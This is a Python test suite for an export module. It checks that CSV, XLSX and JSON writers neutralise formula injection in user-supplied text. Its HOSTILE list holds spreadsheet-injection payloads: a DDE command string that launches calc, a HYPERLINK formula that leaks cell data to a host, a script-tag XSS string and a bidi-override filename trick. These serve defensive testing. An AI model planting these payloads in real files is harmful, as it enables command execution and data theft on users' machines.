"""Each format is read again by a program of its kind, and what viewers wrote does nothing there."""

import json
import re
from datetime import UTC, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.export import writers
from gateway.export.table import Sheet, Value, inert, plain
from tests.export.reading import Workbook, csv_sheets

EVENING = datetime(2026, 11, 22, 19, 30, 5, 412_000, tzinfo=ZoneInfo("Asia/Jakarta"))
HOSTILE = [
    "=HYPERLINK(\"http://venue.example/?\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*9",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    '"=1+1',
    "'=1+1",
    "＝1+1",
    "hello;=1+1",
    'hello"; "=1+1',
    "a,=1",
    "\u202egnp.exe\u2066",
    "line\nof\r\nlines",
    "\x00\x1b[31mred",
    "http://venue.example/click",
    "0123",
    "1e9",
    "<script>alert(1)</script>&amp;",
    "_x0041_",
    "a" * 40_000,
]  # fmt: skip
ROWS: list[tuple[Value, ...]] = [
    *((text, -3, -0.25, True, EVENING) for text in HOSTILE),
    ("Budi 🌹 é", 0, 1.5, False, None),
]
COLUMNS = ("text", "number", "rate", "flag", "time")
FORMULA = re.compile(r"""[\s"']*[=+\-@＝＋－＠]""")


def sheet(name: str = "people") -> Sheet:
    return Sheet(name, COLUMNS, iter(ROWS))


@pytest.mark.parametrize("kind", ["folder", "zip"])
def test_csv_is_read_again_and_no_text_is_a_formula(kind: str, tmp_path: Path) -> None:
    path = tmp_path / "people"
    with (writers.csv_folder if kind == "folder" else writers.csv_zip)(path) as write:
        write(sheet())
        write(Sheet("empty", ("a", "b"), ()))
    sheets = csv_sheets(path)
    assert sheets["empty"] == [["a", "b"]]
    head, *rows = sheets["people"]
    assert head == list(COLUMNS)
    assert [row[1:] for row in rows[:-1]] == [["-3", "-0.25", "1", "2026-11-22 19:30:05"]] * len(HOSTILE)
    assert rows[-1] == ["Budi 🌹 é", "0", "1.5", "0", ""]
    assert not [row[0] for row in rows if FORMULA.match(row[0].removeprefix("'")) and not row[0].startswith("'")]
    assert rows[0][0].startswith("'=HYPERLINK")


@given(st.text(st.sampled_from("ab1=+-@;,|\t\r\n \"'＝＋é\x00\u200b"), max_size=12))
def test_no_text_begins_a_formula_whatever_stands_before_it(text: str) -> None:
    made = inert(text)
    for piece in made.split(";"):
        bare = piece.lstrip("\"' ")
        if FORMULA.match(bare):
            assert "'" in piece[: len(piece) - len(bare)], made
    assert made.isprintable()


@given(st.text())
def test_a_harmless_text_is_not_changed_but_for_what_is_not_printed(text: str) -> None:
    made = plain(text)
    assert inert(made).replace("'", "") == made.replace("'", "")
    if not re.search(r"[=+\-@＝＋－＠;]", made):
        assert inert(text) == made


def test_in_a_workbook_texts_are_texts_numbers_are_numbers_and_times_are_times(tmp_path: Path) -> None:
    with writers.xlsx(tmp_path / "people.xlsx") as write:
        write(sheet())
        write(Sheet("empty", ("a", "b"), ()))
    book = Workbook(tmp_path / "people.xlsx")
    assert (book.formulas, book.links) == (0, 0)
    assert book.frozen == {"people", "empty"}
    assert len(book.sheets["empty"]) == 1
    head, *rows = book.sheets["people"]
    assert [text for _, text in head] == list(COLUMNS)
    serial = (EVENING.replace(tzinfo=UTC) - datetime(1899, 12, 30, tzinfo=UTC)).total_seconds() / 86400
    for text, row in zip(HOSTILE, rows, strict=False):
        kinds = [kind for kind, _ in row]
        assert kinds == ["inlineStr", "n", "n", "b", "n"]
        assert row[0][1] == plain(text).replace("_x0041_", "_x005F_x0041_")
        assert [value for _, value in row[1:4]] == ["-3", "-0.25", "1"]
        assert float(row[4][1]) == pytest.approx(serial, abs=1e-8)
    assert rows[-1][0] == ("inlineStr", "Budi 🌹 é")


def test_a_sheet_that_is_longer_than_excel_reads_goes_on_in_another_one(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(writers, "MOST_XLSX_ROWS", 4)
    with writers.xlsx(tmp_path / "long.xlsx") as write:
        write(Sheet("events", ("n",), ((n,) for n in range(7))))
    sheets = Workbook(tmp_path / "long.xlsx").sheets
    assert {name: [text for ((_, text),) in rows[1:]] for name, rows in sheets.items()} == {
        "events": ["0", "1", "2"],
        "events 2": ["3", "4", "5"],
        "events 3": ["6"],
    }


def test_json_keeps_every_text_as_it_came_and_times_in_utc(tmp_path: Path) -> None:
    with writers.json(tmp_path / "people.json", {"format": "test"}) as write:
        write(sheet())
        write(Sheet("empty", ("a", "b"), ()))
    document = json.loads((tmp_path / "people.json").read_text())
    assert document["format"] == "test"
    assert document["sheets"]["empty"] == []
    people = document["sheets"]["people"]
    assert [row["text"] for row in people] == [*HOSTILE, "Budi 🌹 é"]
    assert people[0] | {"text": ""} == {
        "text": "", "number": -3, "rate": -0.25, "flag": True, "time": "2026-11-22T12:30:05.412Z",
    }  # fmt: skip
    assert people[-1]["time"] is None
